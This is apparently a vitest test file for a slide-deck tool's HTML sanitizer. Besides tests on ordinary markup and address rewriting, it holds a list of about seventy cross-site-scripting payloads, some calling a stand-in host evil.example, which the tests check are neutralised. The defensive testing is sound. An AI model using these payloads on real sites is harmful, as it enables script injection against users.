import { describe, expect, test } from 'vitest'
import { parseSource } from '../../scripts/parse/parse-source.ts'
import { renderBlocks, renderFootnotes } from '../../scripts/render/markdown.ts'
import { loadSanitizer } from '../../scripts/render/sanitize.ts'
import { sourceFile } from '../helpers/yaml-map.ts'

const { sanitize, rewriteReferences } = await loadSanitizer()
const clean = (html: string): string => sanitize(html).html

describe('ordinary markup', () => {
  test.each([
    '<p class="a" id="b" style="color: red" title="c" lang="de" dir="ltr">d <em>e</em></p>',
    '<div role="note" aria-label="a" data-id="b" data-fragment-index="1">c</div>',
    '<table><caption>a</caption><thead><tr><th scope="col" colspan="2">b</th></tr></thead><tbody><tr><td>c</td></tr></tbody></table>',
    '<figure><img src="a.png" alt="b" width="4" height="3"><figcaption>c</figcaption></figure>',
    '<video src="a.mp4" poster="b.png" controls muted><track src="c.vtt" kind="captions"></video>',
    '<audio controls><source src="a.mp3" type="audio/mpeg"></audio>',
    '<ol start="3" reversed><li value="4">a</li></ol>',
    '<details open><summary>a</summary>b</details>',
    '<ruby>a<rp>(</rp><rt>b</rt><rp>)</rp></ruby>',
    '<a href="https://example.org" target="_blank" rel="noopener">a</a>',
    '<a href="#/slide">a</a>',
    '<input type="checkbox" disabled checked>',
    '<pre class="code has-steps" data-steps="1|2"><code class="hljs language-ts"><span class="line" data-line="1">a\n</span></code></pre>',
    '<aside class="markdown-alert">a</aside>',
    '<blockquote cite="https://example.org">a</blockquote>',
    '<center><font color="red" size="6" face="serif">a</font> <big>b</big> <nobr>c d</nobr></center>',
    '<p align="center"><acronym title="a">b</acronym></p>',
  ])('stays: %s', (html) => {
    expect(sanitize(html)).toEqual({ html, removed: [] })
  })

  test('stays in drawings', () => {
    const svg =
      '<svg viewBox="0 0 10 10" role="img" aria-labelledby="t"><title id="t">a</title><defs><linearGradient id="g">' +
      '<stop offset="0" stop-color="red"></stop></linearGradient><clipPath id="c"><rect width="1" height="1"></rect>' +
      '</clipPath></defs><g transform="rotate(3)" fill="url(#g)"><path d="M0 0h1" stroke-width="2"></path>' +
      '<text x="1" y="2" text-anchor="middle">b</text></g><use href="#g"></use></svg>'
    const { html, removed } = sanitize(svg)
    expect(removed).toEqual([])
    expect(html).toBe(svg)
  })
})

test('attributes may have the names of what every object of JavaScript has', () => {
  expect(clean('<p constructor="a" __proto__="b">c</p>')).toBe('<p>c</p>')
  expect(rewriteReferences('<img constructor="a" src="b.png">', { asset: () => 'c.png', link: String })).toBe(
    '<img constructor="a" src="c.png">',
  )
})

describe('attacks', () => {
  const attacks = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img src=x OnErRoR=alert(1)>',
    '<img src="javascript:alert(1)">',
    '<img/src=x/onerror=alert(1)>',
    '<img """><script>alert(1)</script>">',
    '<img src=x:alert(alt) onerror=eval(src) alt=1>',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><script xlink:href="data:text/javascript,alert(1)"></script></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<svg><title><img src=x onerror=alert(1)></title></svg>',
    '<svg><desc><style><a id="</style><img src=1 onerror=alert(1)>"></style></desc></svg>',
    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate attributeName="href" values="javascript:alert(1)"></animate></svg>',
    '<svg><set attributeName="onmouseover" to="alert(1)"></set></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math href="javascript:alert(1)">x</math>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="\u0001javascript:alert(1)">x</a>',
    '<a href="&#106;avascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a ping="https://evil.example" href="#">x</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<applet code="x"></applet>',
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
    '<input type="text" autofocus onfocus=alert(1)>',
    '<input type="image" src=x onerror=alert(1) disabled>',
    '<textarea autofocus onfocus=alert(1)></textarea>',
    '<select autofocus onfocus=alert(1)></select>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<style>@import "javascript:alert(1)";</style>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="behavior:url(x.htc)">x</div>',
    '<div style="background:\\75rl(javascript:alert(1))">x</div>',
    '<details open ontoggle=alert(1)>x</details>',
    '<video><source onerror=alert(1)></video>',
    '<video poster="javascript:alert(1)"></video>',
    '<body onload=alert(1)>',
    '<table background="javascript:alert(1)"><tr><td>x</table>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<template><script>alert(1)</script></template>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<plaintext><script>alert(1)</script>',
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<!--><script>alert(1)</script>-->',
    '<!-- --!><script>alert(1)</script> -->',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<?xml version="1.0"?><script>alert(1)</script>',
    '<div data-background-iframe="https://evil.example">x</div>',
    '<p is="evil-element">x</p>',
    '<div contenteditable onbeforeinput=alert(1)>x</div>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<p id="a" xml:base="javascript:alert(1)//">x</p>',
    `${'<div>'.repeat(500)}<script>alert(1)</script>`,
  ]

  test.each(attacks)('fail: %s', (attack) => {
    const once = clean(attack)
    const lower = once.toLowerCase()
    expect(lower).not.toMatch(
      /<(script|iframe|object|embed|applet|form|button|textarea|select|meta|base|link|style|math|template|noscript|xmp|animate|set|foreignobject)\b/,
    )
    expect(lower).not.toMatch(
      /<[^>]*\s(on\w+|srcdoc|formaction|ping|is|xml:base|data-background-iframe|contenteditable)\s*=?/,
    )
    expect(lower).not.toMatch(/<[^>]*(javascript|vbscript|data:text|expression\(|behavior)/)
    // What a browser makes of the result is what we have judged.
    expect(clean(once)).toBe(once)
  })

  test('are named, each once', () => {
    expect(
      sanitize('<script>a</script><p onclick="b()">c</p><script>d</script><form><b>e</b></form>'),
    ).toEqual({
      html: '<p>c</p><b>e</b>',
      removed: [{ element: 'p', attribute: 'onclick' }, { element: 'script' }, { element: 'form' }],
    })
  })

  test('that are form fields are named', () => {
    expect(sanitize('a<input type="text">').removed).toEqual([{ element: 'input' }])
  })
})

test('our own markup means the same afterwards', () => {
  const text =
    '# A {.x}\n\n> [!NOTE]\n> b\n\n- [ ] c\n- [x] d[^1]\n\n| e | f |\n|---|--:|\n| g | h |\n\n```ts [1|2]\na\nb\n```\n\n' +
    '![i](j.png "k"){width=50%}\n\n. . .\n\n::: left\nl\n:::\n\n[^1]: m\n'
  const [slide] = parseSource(sourceFile(text)).value
  const context = {
    incremental: true,
    html: 'safe' as const,
    idPrefix: 'a-',
    asset: (address: string) => address,
    link: (address: string) => address,
    math: () => '',
    citation: () => '',
    highlight: () => undefined,
  }
  const html = renderBlocks(slide?.blocks ?? [], context) + renderFootnotes(slide?.footnotes ?? [], context)
  const { html: after, removed } = sanitize(html)
  expect(removed).toEqual([])
  expect(after.replace(/=""/g, '')).toBe(html)
})

describe('element comments', () => {
  test.each([
    ['<img src="a.png"> <!-- .element: class="b" -->', '<img src="a.png" class="b"> '],
    [
      '<span>a</span> <!-- .element: class="b" data-fragment-index="1" -->',
      '<span class="b" data-fragment-index="1">a</span> ',
    ],
    ['<div>a <!-- .element: class="b" --></div>', '<div class="b">a </div>'],
    ['<i class="a">x</i><br><!-- .element: class="b" id="c" -->', '<i class="a b" id="c">x</i><br>'],
    ['<p>a</p><!-- .element: onclick="b()" -->', '<p>a</p>'],
  ])('belong to raw HTML before them: %s', (html, expected) => {
    expect(clean(html)).toBe(expected)
  })
})

describe('a raw deck', () => {
  test('keeps its HTML to the letter', async () => {
    const raw = await loadSanitizer('raw')
    const html = '<SCRIPT>a()</script><p onclick=b()>c<div>'
    expect(raw.sanitize(html)).toEqual({ html, removed: [] })
  })

  test('has element comments applied', async () => {
    const raw = await loadSanitizer('raw')
    expect(raw.sanitize('<i onclick="a()">b</i><!-- .element: class="c" -->').html).toBe(
      '<i onclick="a()" class="c">b</i>',
    )
    expect(raw.sanitize('<i>.element</i>').html).toBe('<i>.element</i>')
  })
})

describe('addresses in raw HTML', () => {
  const rewrite = (html: string): string =>
    rewriteReferences(html, {
      asset: (address, role) => (address.startsWith('https:') ? undefined : `${role}/${address}`),
      link: (address) => `to/${address}`,
    })

  test.each([
    ['<img src="a.png">', '<img src="image/a.png">'],
    ["<IMG SRC='a.png' alt=b>", '<IMG src="image/a.png" alt=b>'],
    ['<img alt="a>b" src=a.png>', '<img alt="a>b" src="image/a.png">'],
    ['<img srcset="a.png 1x, b.png 2x">', '<img srcset="image/a.png 1x, image/b.png 2x">'],
    ['<video src="a.mp4" poster="b.png">', '<video src="media/a.mp4" poster="image/b.png">'],
    ['<audio><source src="a.mp3"></audio>', '<audio><source src="media/a.mp3"></audio>'],
    ['<track src="a.vtt">', '<track src="media/a.vtt">'],
    ['<svg><image href="a.png"/></svg>', '<svg><image href="image/a.png"/></svg>'],
    ['<a href="a.html">b</a>', '<a href="to/a.html">b</a>'],
    ['<p style="background: url(a.png)">', '<p style="background: url(image/a.png)">'],
    ['<p style="background: url(\'a.png\') red">', '<p style="background: url(\'image/a.png\') red">'],
    ['<img src="https://example.org/a.png">', '<img src="">'],
    ['<img src="a&amp;b.png">', '<img src="image/a&amp;b.png">'],
  ])('are replaced in %s', (html, expected) => {
    expect(rewrite(html)).toBe(expected)
  })

  test.each([
    '<p>src="a.png"</p>',
    '<!-- <img src="a.png"> -->',
    '</video>',
    'a = b',
    '<img alt="src=a.png">',
    '<p data-x="src"></p>',
  ])('are not seen in %s', (html) => {
    expect(rewrite(html)).toBe(html)
  })

  test('of elements that a safe deck drops are none', async () => {
    const html =
      '<script src="a.js"></script><link rel="stylesheet" href="b.css"><iframe src="c.html"></iframe>'
    expect(rewrite(html)).toBe(html)
    const raw = await loadSanitizer('raw')
    expect(
      raw.rewriteReferences(html, {
        asset: (address, role) => `${role}/${address}`,
        link: (address) => address,
      }),
    ).toBe(
      '<script src="script/a.js"></script><link rel="stylesheet" href="style/b.css"><iframe src="file/c.html"></iframe>',
    )
  })
})
